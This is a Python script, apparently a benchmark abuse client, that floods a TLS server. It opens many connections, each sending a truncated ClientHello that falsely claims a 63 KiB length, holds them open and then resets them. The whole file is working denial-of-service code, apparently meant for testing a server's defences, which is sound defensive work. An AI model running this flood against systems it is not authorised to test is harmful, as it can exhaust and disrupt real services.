"""A flood of beginnings: ``hello address= port= at_once= size= seconds=``.

Connections that each send the first ``size`` bytes of a TLS ClientHello which says that it is longer, wait to be cut,
and come again. Prints ``open`` at the beginning, and at the end ``opened``, ``failed`` and ``sent`` (bytes).
"""

from __future__ import annotations

import select
import socket
import time

from benchmarks.abuse.clients.speech import allow_many_files, arguments, reset, say

_RECORD = 1 << 14
"""Most bytes of a TLS record (RFC 8446 5.1)."""
_CLAIMED = 63 << 10
"""Nobody need wait for a hello that says that it is longer than any."""
_WAIT = 2.0
"""Seconds that a connection is kept: the usual detection timeout, and one more."""


def beginning(size: int) -> bytes:
    """``size`` bytes of a ClientHello in records of the greatest length; the hello says that it has 63 KiB."""
    message = b"\x01" + _CLAIMED.to_bytes(3, "big") + b"\x03\x03" + b"\x00" * size
    records = b"".join(
        b"\x16\x03\x01" + _RECORD.to_bytes(2, "big") + message[at : at + _RECORD].ljust(_RECORD, b"\x00")
        for at in range(0, size, _RECORD)
    )
    return records[:size]


class _Flood:
    def __init__(self, address: str, port: int, hello: bytes) -> None:
        self._where = (address, port)
        self._hello = hello
        self._epoll = select.epoll()
        self._open: dict[int, tuple[socket.socket, float, int]] = {}
        self.opened = self.failed = self.sent = 0

    def fill(self, at_once: int) -> None:
        while len(self._open) < at_once:
            sock = socket.socket()
            sock.setblocking(False)
            sock.connect_ex(self._where)
            self._open[sock.fileno()] = (sock, time.monotonic(), 0)
            self._epoll.register(sock, select.EPOLLOUT)
            self.opened += 1

    def turn(self) -> None:
        """Send what can be sent; drop what has ended or has waited for long enough."""
        for descriptor, events in self._epoll.poll(0.01, 4096):
            sock, since, done = self._open[descriptor]
            try:
                if events & (select.EPOLLERR | select.EPOLLHUP):
                    raise ConnectionError
                done += sock.send(self._hello[done:])
            except BlockingIOError:
                continue
            except OSError:
                self.failed += not done
                self._drop(descriptor, done)
                continue
            self._open[descriptor] = (sock, since, done)
            if done == len(self._hello):
                self._epoll.modify(sock, 0)
        limit = time.monotonic() - _WAIT
        for descriptor in [d for d, (_, since, _) in self._open.items() if since < limit]:
            self._drop(descriptor, self._open[descriptor][2])

    def _drop(self, descriptor: int, sent: int) -> None:
        sock, _, _ = self._open.pop(descriptor)
        self._epoll.unregister(sock)
        reset(sock)
        self.sent += sent

    def end(self) -> None:
        for descriptor in list(self._open):
            self._drop(descriptor, self._open[descriptor][2])


def main(address: str, port: int, at_once: int, size: int, seconds: float) -> None:
    """Flood for ``seconds``."""
    allow_many_files()
    flood = _Flood(address, port, beginning(size))
    flood.fill(at_once)
    say(open=at_once)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        flood.turn()
        flood.fill(at_once)
    flood.end()
    say(opened=flood.opened, failed=flood.failed, sent=flood.sent)


if __name__ == "__main__":
    _given = arguments()
    main(
        _given["address"],
        int(_given["port"]),
        int(_given["at_once"]),
        int(_given["size"]),
        float(_given["seconds"]),
    )
